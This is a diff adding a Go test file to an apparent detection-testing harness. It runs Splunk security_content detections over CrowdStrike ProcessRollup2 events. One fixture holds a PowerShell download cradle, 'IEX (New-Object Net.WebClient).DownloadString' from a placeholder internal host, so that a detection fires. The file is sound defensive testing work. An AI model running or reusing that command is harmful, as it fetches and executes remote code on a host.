@@ -1,0 +1,189 @@
+package ingest_test
+
+import (
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"testing/fstest"
+
+	"github.com/dactest/dactest/harness/content"
+	"github.com/dactest/dactest/harness/internal/testenv"
+	"github.com/dactest/dactest/harness/runner"
+	"gopkg.in/yaml.v3"
+)
+
+// End to end: security_content's tstats Endpoint.Processes detections on
+// CrowdStrike ProcessRollup2 events built from the data source's
+// example_log, through the CrowdStrike FDR add-on definitions, the CIM
+// data model and the runner's unit-test verdicts.
+
+const (
+	downloadString = "detections/endpoint/any_powershell_downloadstring.yml"
+	certutilDecode = "detections/endpoint/certutil_with_decode_argument.yml"
+	// The example event's aid, and the host name a site's aidmaster
+	// export gives it.
+	exampleAID = "168a90e125d443beb2a4e2914985084d"
+)
+
+func TestCrowdStrikeProcessRollup2Detections(t *testing.T) {
+	sc := testenv.SharedDir(t, "corpus", "security_content")
+	dir := t.TempDir()
+	benign := writeEvent(t, dir, "benign.json", nil)
+	download := writeEvent(t, dir, "download.json", map[string]any{
+		"CommandLine": `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -c IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')`,
+	})
+	cases := []struct {
+		id, detection, data string
+		fires, site         bool
+		status              runner.Status
+		message             string
+	}{
+		{"downloadstring-fires", downloadString, download, true, true, runner.Pass, ""},
+		{"downloadstring-benign", downloadString, benign, false, true, runner.Pass, ""},
+		{"certutil-not-on-powershell", certutilDecode, download, false, true, runner.Pass, ""},
+		// Without the site's aidmaster table dest stays null, as in Splunk,
+		// and the detection's dest risk object fails the unit test.
+		{"downloadstring-no-site-data", downloadString, download, true, false, runner.Fail, `risk object field "dest" is null`},
+	}
+	for _, c := range cases {
+		t.Run(c.id, func(t *testing.T) {
+			m := writeManifest(t, dir, c.id, sc, c.detection, c.data, c.fires)
+			res := runCase(t, m, c.site)
+			if res.Status != c.status || !strings.Contains(res.Message, c.message) {
+				t.Fatalf("%s: %s %q, want %s %q", c.id, res.Status, res.Message, c.status, c.message)
+			}
+			if c.fires && c.site && (res.ResultCount != 1 || res.Rows[0].Get("dest").String() != "WIN-HOST-7") {
+				t.Errorf("%d rows, dest %q", res.ResultCount, res.Rows[0].Get("dest"))
+			}
+		})
+	}
+}
+
+// Every production detection that lists CrowdStrike ProcessRollup2 as a
+// data source compiles, but for the few that use what dactest cannot run.
+func TestCrowdStrikeDetectionsCompile(t *testing.T) {
+	sc := testenv.SharedDir(t, "corpus", "security_content")
+	tree, err := runner.NewContentLoader().Dir(sc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	opts, err := runner.DefaultOptions()
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := 0
+	for _, d := range tree.Tree.Detections {
+		if d.Status != "production" || !hasDataSource(d, "CrowdStrike ProcessRollup2") {
+			continue
+		}
+		n++
+		want := runner.Pass
+		if knownUnsupported[filepath.Base(d.File)] {
+			want = runner.Unsupported
+		}
+		if st := opts.Compiler.Get(tree.Tree, d).Status(); st != want {
+			t.Errorf("%s: %s, want %s", d.File, st, want)
+		}
+	}
+	if n < 100 {
+		t.Fatalf("only %d CrowdStrike ProcessRollup2 detections", n)
+	}
+}
+
+// What dactest cannot run, whatever the data: an MLTK model (apply) and
+// the remote_access_software_exceptions KV store collection, which ships
+// without data.
+var knownUnsupported = map[string]bool{
+	"potentially_malicious_code_on_commandline.yml":    true,
+	"detect_remote_access_software_usage_fileinfo.yml": true,
+	"detect_remote_access_software_usage_process.yml":  true,
+}
+
+func hasDataSource(d *content.Detection, name string) bool {
+	for _, ds := range d.DataSource {
+		if ds == name {
+			return true
+		}
+	}
+	return false
+}
+
+func runCase(t *testing.T, manifest string, site bool) runner.TestResult {
+	t.Helper()
+	m, err := content.LoadManifest(manifest)
+	if err != nil {
+		t.Fatal(err)
+	}
+	opts, err := runner.DefaultOptions()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if site {
+		export := "aid,ComputerName,Version\n" + exampleAID + ",WIN-HOST-7,Windows 10\n"
+		_, err := opts.Addons.LoadSiteTables(fstest.MapFS{
+			"crowdstrike_ta_host_resolution_lookup.csv":          {Data: []byte(export)},
+			"crowdstrike_ta_combined_host_resolution_lookup.csv": {Data: []byte(export)},
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	rep := runner.Run(context.Background(), runner.PlanManifest(m, runner.NewContentLoader()), opts)
+	if len(rep.Results) != 1 {
+		t.Fatalf("%d results", len(rep.Results))
+	}
+	return rep.Results[0]
+}
+
+// writeEvent writes the ProcessRollup2 example_log, with changes, as a
+// one-line JSON dataset.
+func writeEvent(t *testing.T, dir, name string, change map[string]any) string {
+	t.Helper()
+	data, err := os.ReadFile(testenv.SharedDir(t, "corpus", "security_content", "data_sources", "crowdstrike_processrollup2.yml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var ds struct {
+		ExampleLog string `yaml:"example_log"`
+	}
+	var ev map[string]any
+	if err := yaml.Unmarshal(data, &ds); err != nil {
+		t.Fatal(err)
+	}
+	if err := json.Unmarshal([]byte(ds.ExampleLog), &ev); err != nil {
+		t.Fatal(err)
+	}
+	for k, v := range change {
+		ev[k] = v
+	}
+	line, err := json.Marshal(ev)
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, name)
+	if err := os.WriteFile(path, append(line, '\n'), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func writeManifest(t *testing.T, dir, id, sc, detection, data string, fires bool) string {
+	t.Helper()
+	m := map[string]any{"cases": []any{map[string]any{
+		"id": id, "content": sc, "detection": detection,
+		"data":   []any{map[string]any{"path": data, "source": "crowdstrike", "sourcetype": "crowdstrike:events:sensor"}},
+		"expect": map[string]any{"fires": fires},
+	}}}
+	out, err := yaml.Marshal(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, id+".yml")
+	if err := os.WriteFile(path, out, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
